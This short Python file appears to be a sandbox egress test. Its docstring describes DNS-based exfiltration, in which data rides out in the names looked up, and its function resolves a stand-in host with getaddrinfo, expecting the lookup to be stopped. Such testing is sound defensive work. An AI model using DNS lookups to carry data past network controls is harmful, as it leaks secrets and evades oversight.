"""Asks a name server, which carries data out in the names that it is asked for.

Names are looked up even where nothing else gets out.
"""

import socket

EXPECT = "stopped"
DANGEROUS = "it would speak to a machine that is not this one"


def attack(target):
    try:
        return socket.getaddrinfo("secret.example.com", 80)
    except socket.gaierror:
        return None
